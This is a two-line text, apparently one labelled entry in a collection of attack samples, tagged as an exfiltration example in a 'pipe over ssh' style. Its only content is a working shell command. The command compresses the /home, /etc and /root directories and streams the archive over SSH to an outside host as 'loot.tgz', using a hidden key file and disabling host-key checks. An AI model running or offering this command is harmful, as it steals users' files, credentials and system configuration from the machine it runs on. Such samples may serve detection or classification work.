# class: exfiltration; style: pipe over ssh
tar czf - /home /etc /root 2>/dev/null | ssh -o StrictHostKeyChecking=no -i /tmp/.k drop@198.51.100.9 'cat > loot.tgz'
